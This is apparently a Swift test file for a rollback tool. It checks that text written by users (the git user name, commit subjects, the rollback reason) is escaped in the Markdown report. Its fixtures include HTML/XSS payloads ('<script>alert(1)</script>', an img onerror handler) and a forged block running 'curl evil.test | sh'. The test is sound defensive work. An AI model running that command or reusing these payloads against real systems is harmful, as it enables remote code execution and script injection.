import Foundation
import TestSupport
import Testing

/// The rollback report is Markdown pasted into chats and tickets: what people wrote (the
/// reason, their user.name, commit subjects) renders as text, never as structure.
struct ReportMarkdownTests {
    /// `|` that end a table cell (not escaped with a backslash).
    static func cellSeparators(_ line: String) -> Int {
        var count = 0
        var escaped = false
        for character in line {
            if character == "|", !escaped { count += 1 }
            escaped = character == "\\" && !escaped
        }
        return count
    }

    /// `raw` occurs with its first character not escaped by a backslash.
    static func containsUnescaped(_ text: String, _ raw: String) -> Bool {
        var searchStart = text.startIndex
        while let range = text.range(of: raw, range: searchStart..<text.endIndex) {
            if range.lowerBound == text.startIndex || text[text.index(before: range.lowerBound)] != "\\" { return true }
            searchStart = text.index(after: range.lowerBound)
        }
        return false
    }

    @Test func whatUsersWroteCannotForgeHeadingsTablesHTMLOrAnUndoBlock() throws {
        let f = try DeployFixture()
        _ = try f.clone.git("config", "user.name", "Eve | *admin* [boss](http://evil.test)")
        // A commit deployed now whose subject is Markdown and HTML.
        let evil = try f.clone.commit("fix | <img src=x onerror=alert(1)> **bold** [link](http://evil.test)")
        _ = try f.clone.push("-q", "origin", "main")
        try f.scratch.git("push", "-q", f.daemon.basePath + "/prod.git", "\(evil):refs/heads/master", in: f.work)
        let reason =
            "db down | see #12\n# Rollback approved by the CTO\n<script>alert(1)</script>\n```sh\ncurl evil.test | sh\n```\n## Undo\n[click](http://evil.test) `x`"
        let report = f.scratch.root + "/report.md"
        let result = try f.revert("v1.0.0", "--yes", "--reason", reason, "--report", report)
        #expect(result.status == 0, "\(result.stderr)")
        let markdown = try String(contentsOfFile: report, encoding: .utf8)
        let lines = markdown.components(separatedBy: "\n")

        // Only the report's own headings, and one code block: the undo commands.
        #expect(
            lines.filter { $0.hasPrefix("#") }
                == ["# Rollback report: prod → v1.0.0", "## Targets", "## Commits taken out of prod", "## Backup", "## Undo", "## Record"],
            "\(markdown)")
        #expect(lines.filter { $0.hasPrefix("```") }.count == 2, "\(markdown)")
        let undo = lines.drop { $0 != "```sh" }.dropFirst().prefix { $0 != "```" }
        #expect(undo.allSatisfy { $0.hasPrefix("git fetch ") || $0.hasPrefix("git push ") }, "\(undo)")
        #expect(!markdown.contains("curl evil.test | sh\n"))
        // No HTML, no link, no emphasis from users: each such character comes escaped.
        for raw in ["<script>", "<img", "](http://evil.test)", "**bold**", "*admin*", "`x`"] {
            #expect(!Self.containsUnescaped(markdown, raw), "report holds \(raw): \(markdown)")
        }
        // The table rows keep their two cells; the reason and the name stay readable, on one line.
        for key in ["| Reason |", "| Who |"] {
            let row = try #require(lines.first { $0.hasPrefix(key) }, "\(markdown)")
            #expect(Self.cellSeparators(row) == 3, "\(row)")
        }
        #expect(markdown.contains("db down \\| see \\#12 \\# Rollback approved by the CTO"))
        #expect(markdown.contains("| Who | Eve \\| \\*admin\\* \\[boss\\](http://evil.test) <author@example.test> |") == false)
        #expect(markdown.contains("| Who | Eve \\| \\*admin\\* \\[boss\\](http://evil.test) \\<author@example.test\\> |"), "\(markdown)")
        let subject = try #require(lines.first { $0.contains("onerror") })
        #expect(subject.hasPrefix("- `\(evil.prefix(7))` fix \\| \\<img"), "\(subject)")

        // JSON stays as it is: the ledger keeps the reason verbatim.
        let log = try f.scratch.git("log", "-1", "--format=%B", "refs/release-guardian/ledger", in: f.clone.origin)
        let json = try JSONSerialization.jsonObject(with: Data(log[log.firstIndex(of: "{")!...].utf8)) as? [String: Any]
        #expect(json?["reason"] as? String == reason)
    }
}
